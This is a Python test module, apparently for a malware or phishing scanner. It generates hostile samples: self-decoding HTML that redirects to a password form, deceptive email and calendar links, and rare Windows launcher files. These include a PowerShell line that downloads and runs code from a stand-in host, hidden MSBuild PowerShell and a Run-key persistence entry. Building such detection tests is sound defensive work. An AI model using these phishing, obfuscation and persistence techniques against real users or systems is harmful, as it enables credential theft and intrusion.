"""Pages and mails that hide what they ask, and files of rare kinds that start something."""

from base64 import b64encode
from urllib.parse import quote

from tests.samples.archives import cab_of
from tests.samples.documents import mail, notebook
from tests.samples.files import pe, zip_of
from tests.samples.hostile.cases import Case, Severity, single

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
HOST = "files.example.net"
XML = b'<?xml version="1.0" encoding="UTF-8"?>'


def cases() -> list[Case]:
    """Pages that decode themselves, mails with forms and false invitations, launchers of rare kinds, registry files in any encoding."""
    return [*_pages(), *_mails(), *_launchers(), *_registries()]


def _pages() -> list[Case]:
    away = b64encode(f"document.location='https://{HOST}/login';".encode()).decode()
    asks = f"<form action='https://{HOST}'><input type=password></form>".encode()
    coded = b64encode(asks).decode()
    numbers = ",".join(str(ord(letter)) for letter in f"document.location='https://{HOST}';")
    bodies = [
        (f"<body onload=\"eval(atob('{away}'))\">", MEDIUM),
        (f"<svg onload=\"eval(atob('{away}'))\"></svg>", MEDIUM),
        (f"<script>window['ev'+'al'](atob('{away}'))</script>", MEDIUM),
        (f"<script>new Function(atob('{away}'))()</script>", MEDIUM),
        (f"<script>var s='';[{numbers}].forEach(c=>s+=String.fromCharCode(c));eval(s)</script>", MEDIUM),
        (f'<iframe src="data:text/html;base64,{coded}"></iframe>', HIGH),
        (f"<embed src='data:text/html;base64,{coded}'>", HIGH),
        (f"<object data='data:text/html,{quote(asks)}'></object>", HIGH),
        (f"<meta http-equiv='refresh' content='0;url=data:text/html;base64,{coded}'>", HIGH),
        (f"<script>document.write(atob('{coded}'))</script>", HIGH),
        (f"<script>document.write(unescape('{quote(asks, safe='')}'))</script>", HIGH),
    ]
    return [
        single("page that hides a page", f"Form {n}.html", f"<!DOCTYPE html><html>{body}</html>".encode(), "html.hidden-page", least=least)
        for n, (body, least) in enumerate(bodies)
    ]


def _mails() -> list[Case]:
    form = f"<html><form action='https://{HOST}/p.php'><input TYPE = 'PassWord'></form></html>"
    head = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: Visit\r\nMIME-Version: 1.0\r\nContent-Type: text/calendar\r\n\r\n"
    invitation = (
        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nX-ALT-DESC;FMTTYPE=text/html:<html>"
        f'<a href="https://{HOST}/login">https://meet.example.org/1</a></html>\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'
    ).encode()
    files = [
        ("Account.eml", mail(html=form), MEDIUM),
        ("Visit.eml", head + invitation, LOW),
        ("Visit.ics", invitation, LOW),
        ("Agenda.eml", mail(html=f"<html><a href='file://{HOST}/s/a.lnk'>Agenda</a></html>"), MEDIUM),
        ("Papers.eml", mail(html=f"<html><a href='search-ms:query=a&crumb=location:\\\\{HOST}\\s'>Open</a></html>"), MEDIUM),
    ]
    return [
        single("mail: form, invitation or link that deceives", name, body, "mail.deceptive-link", least=least)
        for name, body, least in files
    ]


def _launchers() -> list[Case]:
    saver = b"[Theme]\r\n[boot]\r\nSCRNSAVE.EXE=a.scr\r\n"
    sandbox = b"<Configuration><MappedFolder><HostFolder>C:\\</HostFolder></MappedFolder><LogonCommand><Command>a.exe</Command></LogonCommand></Configuration>"
    shell = XML + b"<Types><GetScriptBlock>iex (iwr https://files.example.net/a)</GetScriptBlock></Types>"
    build = XML + b"<Project><Exec Command='powershell -w hidden -c calc'/></Project>"
    files = [
        ("Alps.theme", saver, MEDIUM, "executable.rare-launcher"),
        ("Alps.deskthemepack", cab_of({"a.theme": saver, "a.scr": pe()}), MEDIUM, "executable.rare-launcher"),
        ("Lake.themepack", cab_of({"a.theme": f"[Theme]\r\nBrandImage=\\\\{HOST}\\s\\b.png\r\n".encode()}), HIGH, "autorun.remote-icon"),
        ("Test.wsb", sandbox, MEDIUM, "executable.rare-launcher"),
        ("Types.ps1xml", shell, HIGH, "executable.rare-launcher"),
        ("Tool.psd1", f"@{{ RootModule='\\\\{HOST}\\s\\a.psm1' }}\n".encode(), HIGH, "executable.rare-launcher"),
        ("Tool.psc1", XML + b"<PSConsoleFile/>", LOW, "executable.rare-launcher"),
        ("Office.ovpn", b"client\nscript-security 2\nup /tmp/x.sh\n", MEDIUM, "executable.rare-launcher"),
        ("Office.pbk", f"[VPN]\r\nCustomDialDll=\\\\{HOST}\\s\\a.dll\r\n".encode(), MEDIUM, "executable.rare-launcher"),
        ("Tool.vcxproj", build, MEDIUM, "executable.rare-launcher"),
        ("Server.rdp", f"full address:s:{HOST}\nredirectdrives:i:1\n".encode("utf-16-le"), MEDIUM, "executable.rare-launcher"),
        ("Clock.gadget", zip_of({"gadget.xml": XML + b"<gadget/>"}), MEDIUM, "executable.rare-launcher"),
        ("Fix.diagcab", cab_of({"a.diagpkg": XML + b"<DiagnosticPackage/>", "T.ps1": b"calc\n"}), MEDIUM, "executable.rare-launcher"),
        (
            "Notes.one",
            notebook(("a.txt", b"hi"), ("b.hta", b"<html><script>1</script></html>"), ("c.exe", pe())),
            HIGH,
            "onenote.embedded-file",
        ),
    ]
    return [single("launcher of a rare kind, further ones", name, body, expected, least=least) for name, body, least, expected in files]


def _registries() -> list[Case]:
    key = "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]"
    text = f'Windows Registry Editor Version 5.00\r\n\r\n{key}\r\n"a"="powershell -c calc"\r\n'
    encodings = ("utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "cp1252")
    return [
        single("registry file in any encoding", f"keys-{name}.reg", text.encode(name), "autorun.registry", least=HIGH) for name in encodings
    ]
